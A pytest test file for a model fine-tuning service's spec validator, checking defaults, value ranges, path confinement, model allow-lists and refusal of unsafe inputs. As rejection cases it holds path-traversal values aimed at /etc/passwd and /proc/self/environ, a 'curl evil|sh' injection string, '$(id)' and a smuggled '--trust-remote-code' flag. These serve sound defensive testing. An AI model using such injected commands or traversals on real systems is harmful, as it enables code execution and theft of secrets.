"""What a training can be asked for, and what is refused with its field."""

from __future__ import annotations

import math
from pathlib import Path
from typing import Any

import pytest

from lastwords import spec
from lastwords.records import InvalidSpec

DATA = {"dataFile": "data.jsonl"}


def _refused(asked: dict[str, Any], configured: dict[str, Any] = DATA) -> InvalidSpec:
    with pytest.raises(InvalidSpec) as caught:
        spec.complete(asked, configured)
    return caught.value


def test_what_is_not_asked_for_has_its_default() -> None:
    whole = spec.complete({}, DATA)
    assert set(whole) == {field.name for field in spec.FIELDS}
    assert (whole["epochs"], whole["learningRate"], whole["loraR"]) == (3, 5e-5, 16)


def test_what_is_asked_for_stands_over_the_configured_default() -> None:
    assert spec.complete({"epochs": 9}, DATA | {"epochs": 5})["epochs"] == 9
    assert spec.complete({}, DATA | {"epochs": 5})["epochs"] == 5


def test_a_null_means_the_default() -> None:
    assert spec.complete({"epochs": None}, DATA)["epochs"] == 3


@pytest.mark.parametrize("value", [1, None, "x"])
def test_an_unknown_field_is_refused_by_name_whatever_its_value(value: object) -> None:
    assert _refused({"epoch": value}).field == "epoch"


def test_an_unknown_configured_default_is_refused_by_name() -> None:
    assert _refused({}, DATA | {"epoch": 1}).field == "epoch"


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("epochs", 0),
        ("epochs", 1001),
        ("epochs", 1.5),
        ("epochs", "3"),
        ("epochs", True),
        ("epochs", [3]),
        ("learningRate", 0),
        ("learningRate", math.nan),
        ("learningRate", math.inf),
        ("loraDropout", -0.1),
        ("loraDropout", 1),
        ("seed", -1),
        ("seed", 2**32),
        ("timeLimitSeconds", 0),
        ("method", "full"),
        ("trainingType", ""),
        ("name", 7),
        ("name", "a\0b"),
        ("name", "x" * 4097),
        ("name", "\ud800"),
        ("loraTargets", "q"),
        ("loraTargets", [""]),
        ("loraTargets", [1]),
        ("loraTargets", ["a\0"]),
    ],
)
def test_a_value_that_does_not_fit_is_refused_with_its_field(field: str, value: object) -> None:
    error = _refused({field: value})
    assert error.field == field and field in str(error)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("epochs", 1),
        ("epochs", 1000),
        ("learningRate", 1e-9),
        ("loraDropout", 0),
        ("name", "größe"),
    ],
)
def test_a_value_at_the_edge_fits(field: str, value: object) -> None:
    assert spec.complete({field: value}, DATA)[field] == value


def test_there_must_be_data() -> None:
    assert _refused({}, {}).field == "dbPath"


def test_there_is_one_source_of_data() -> None:
    assert _refused({"dbPath": "a.db", "dataFile": "b.jsonl"}, {}).field == "dataFile"


def test_the_data_asked_for_displaces_the_configured() -> None:
    whole = spec.complete({"dbPath": "a.db"}, DATA)
    assert (whole["dbPath"], whole["dataFile"]) == ("a.db", None)


# --- paths ---------------------------------------------------------------------------------------


def _resolved(root: Path, **asked: Any) -> dict[str, Any]:
    return spec.resolve_paths(spec.complete(asked, DATA), [root])


def test_paths_become_absolute_below_the_first_root(tmp_path: Path) -> None:
    assert _resolved(tmp_path)["dataFile"] == str(tmp_path / "data.jsonl")


@pytest.mark.parametrize(
    "value", ["../secret", "/etc/passwd", "a/../../secret", "/proc/self/environ", "x/../.."]
)
@pytest.mark.parametrize("field", ["dbPath", "dataFile"])
def test_a_path_outside_the_roots_is_refused(tmp_path: Path, field: str, value: str) -> None:
    with pytest.raises(InvalidSpec) as caught:
        _resolved(tmp_path, **{field: value})
    assert caught.value.field == field and "LASTWORDS_DATA_ROOTS" in str(caught.value)


def test_a_link_out_of_the_roots_is_refused(tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to("/etc")
    with pytest.raises(InvalidSpec):
        _resolved(tmp_path, dataFile="link/passwd")


def test_a_loop_of_links_is_refused_not_followed_for_ever(tmp_path: Path) -> None:
    (tmp_path / "loop").symlink_to("loop")
    with pytest.raises(InvalidSpec):
        _resolved(tmp_path, dataFile="loop")


def test_a_path_in_a_second_root_is_accepted(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    whole = spec.complete({"dataFile": str(tmp_path / "b" / "x.jsonl")}, {})
    resolved = spec.resolve_paths(whole, [tmp_path / "a", tmp_path / "b"])
    assert resolved["dataFile"] == str(tmp_path / "b" / "x.jsonl")


@pytest.mark.parametrize(
    "value", ["token", "lastwords.db", "./lastwords.toml", "audit/000001.jsonl", "outbox/x.json"]
)
@pytest.mark.parametrize("field", ["dbPath", "dataFile"])
def test_no_file_of_the_home_itself_is_trained_on(tmp_path: Path, field: str, value: str) -> None:
    (tmp_path / "lastwords.db").touch()
    with pytest.raises(InvalidSpec) as caught:
        _resolved(tmp_path, **{field: value})
    assert caught.value.field == field
    assert _resolved(tmp_path, dataFile="mine/token")["dataFile"].endswith("mine/token")


@pytest.mark.parametrize("model", ["gpt2", "google/flan-t5-small", "a.b_c-d/e"])
def test_a_name_of_the_hub_is_no_path(model: str) -> None:
    assert not spec.looks_like_folder(model)


@pytest.mark.parametrize(
    "model", ["/models/x", "./x", "../x", "a/b/c", "~/x", "~user", ".", "", "a//b", "-x", "a b"]
)
def test_everything_else_is_a_path(model: str) -> None:
    assert spec.looks_like_folder(model)


@pytest.mark.parametrize("model", ["/etc", "../x", "a/../../b"])
def test_a_model_outside_the_roots_is_refused(tmp_path: Path, model: str) -> None:
    with pytest.raises(InvalidSpec) as caught:
        _resolved(tmp_path, baseModel=model)
    assert caught.value.field == "baseModel"


# --- the trainer's arguments ---------------------------------------------------------------------


@pytest.mark.parametrize("value", ["--trust-remote-code", "-x", "-"])
@pytest.mark.parametrize("field", ["baseModel", "dbPath", "loraTargets"])
def test_no_value_can_be_taken_for_a_flag(field: str, value: str) -> None:
    asked = {field: ["q", value] if field == "loraTargets" else value}
    assert _refused(asked, DATA).field == field
    arguments = spec.trainer_arguments(spec.complete({}, DATA) | asked)  # were it let through
    assert all(argument.startswith("--") and "=" in argument for argument in arguments)


@pytest.mark.parametrize("char", ["\0", "\n", "\r", "\t", "\x1b", "\x7f", "\x9b", "\u2028"])
@pytest.mark.parametrize("field", ["name", "baseModel", "dataFile"])
def test_no_text_holds_a_control_character(field: str, char: str) -> None:
    assert _refused({field: f"a{char}b"}, DATA).field == field


def test_a_text_that_no_program_could_be_given_is_refused() -> None:
    assert "200,000" in str(_refused({"baseModel": "m" * 200_000}, DATA))


@pytest.mark.parametrize(
    ("allowed", "model", "right"),
    [
        ((), "any/model", True),
        (("google/flan-t5-small",), "google/flan-t5-small", True),
        (("google/flan-t5-small",), "google/flan-t5-small-evil", False),
        (("google/*", "gpt2"), "google/flan-t5-large", True),
        (("google/*", "gpt2"), "gpt2", True),
        (("google/*",), "googlex/model", False),
        (("{root}/models",), "models/a", True),
        (("{root}/models",), "modelsx/a/b", False),
        (("google/*",), "./models/a", False),
    ],
)
def test_only_the_models_that_the_admin_allows_are_trained_from(
    tmp_path: Path, allowed: tuple[str, ...], model: str, right: bool
) -> None:
    whole = spec.complete({"baseModel": f"./{model}" if "models" in model else model}, DATA)
    listed = [entry.replace("{root}", str(tmp_path)) for entry in allowed]
    if right:
        assert spec.resolve_paths(whole, [tmp_path], listed)
        return
    with pytest.raises(InvalidSpec, match="LASTWORDS_MODELS") as caught:
        spec.resolve_paths(whole, [tmp_path], listed)
    assert caught.value.field == "baseModel"


@pytest.mark.parametrize("model", ["x; curl evil|sh", "$(id)", "a b", "my/model/of/mine"])
def test_a_model_that_is_neither_a_name_nor_a_folder_is_refused(tmp_path: Path, model: str) -> None:
    whole = spec.complete({"baseModel": model}, DATA)
    with pytest.raises(InvalidSpec, match="owner/name") as caught:
        spec.resolve_paths(whole, [tmp_path])
    assert caught.value.field == "baseModel"
    (tmp_path / model).mkdir(parents=True)
    assert spec.resolve_paths(whole, [tmp_path])["baseModel"] == str(tmp_path / model)


def test_the_trainer_understands_every_argument() -> None:
    from lastwords.trainer.arguments import parse

    asked = {"loraTargets": ["q", "v"], "learningRate": 1e-9, "epochs": 7, "seed": 2**32 - 1}
    whole = spec.complete(asked, DATA)
    arguments = parse([*spec.trainer_arguments(whole), "--output-dir=o", "--run-directory=r"])
    assert arguments.lora_targets == ("q", "v")
    assert (arguments.learning_rate, arguments.epochs, arguments.seed) == (1e-9, 7, 2**32 - 1)


def test_what_the_trainer_does_not_hear_of_is_not_passed_on() -> None:
    arguments = spec.trainer_arguments(spec.complete({"name": "n", "timeLimitSeconds": 5}, DATA))
    assert not [text for text in arguments if "name" in text or "time" in text]


@pytest.mark.parametrize(
    ("typed", "kept"),
    [("16GB", 16 << 30), ("16GiB", 16 << 30), ("16 g", 16 << 30), ("512M", 512 << 20)],
)
def test_memory_is_taken_as_it_is_written_at_a_shell(typed: object, kept: int) -> None:
    assert spec.complete({"executor": "slurm", "memory": typed}, DATA)["memory"] == kept
    assert spec.read_value(spec.BY_NAME["memory"], str(typed)) == kept


@pytest.mark.parametrize(
    ("typed", "words"),
    [
        ("much", "must be a size such as 16GB, 16GiB or 512M, not 'much'"),
        ("infG", "must be a size such as 16GB, 16GiB or 512M, not 'infG'"),
        ("1K", "must be between 1,048,576 and 17,592,186,044,416, not 1024"),
        (1.5, "must be of type integer, not 1.5"),
    ],
)
def test_memory_that_is_none_is_named(typed: object, words: str) -> None:
    refused = _refused({"memory": typed})
    assert (refused.field, str(refused).endswith(words)) == ("memory", True), refused


def test_what_is_configured_for_an_engine_is_not_wanted_here() -> None:
    configured = {**DATA, "executor": "slurm", "cpus": 3, "memory": "16GB"}
    placed = spec.complete({}, configured)
    assert (placed["executor"], placed["cpus"], placed["memory"]) == ("slurm", 3, 16 << 30)
    here = spec.complete({"executor": "local", "memory": "1GB", "cpus": None}, configured)
    assert (here.get("executor"), here.get("cpus"), here["memory"]) == (None, None, 1 << 30)
